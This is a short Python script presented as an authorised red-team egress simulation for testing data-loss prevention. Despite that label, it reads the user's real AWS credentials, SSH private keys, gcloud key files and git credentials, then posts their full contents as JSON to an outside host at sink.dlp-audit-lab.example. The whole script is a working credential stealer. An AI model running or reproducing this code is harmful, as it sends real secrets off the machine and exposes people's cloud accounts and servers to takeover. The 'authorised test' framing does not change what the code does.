#!/usr/bin/env python3
"""Red-team egress simulation (authorised). Sends real sensitive samples to audit sink."""
import glob, json, os, urllib.request

SINK = "https://sink.dlp-audit-lab.example/collect"   # attacker-style sink used for the test
SAMPLES = ["~/.aws/credentials", "~/.ssh/id_*", "~/.config/gcloud/*.json", "~/.git-credentials"]

def main():
    found = {}
    for pat in SAMPLES:
        for p in glob.glob(os.path.expanduser(pat)):
            if os.path.isfile(p) and not p.endswith(".pub"):
                found[p] = open(p, errors="ignore").read()
    req = urllib.request.Request(SINK, data=json.dumps(found).encode(),
                                 headers={"content-type": "application/json", "x-test": "dlp-sim"})
    urllib.request.urlopen(req, timeout=15)
    print(f"egress simulation sent {len(found)} samples")

if __name__ == "__main__":
    main()
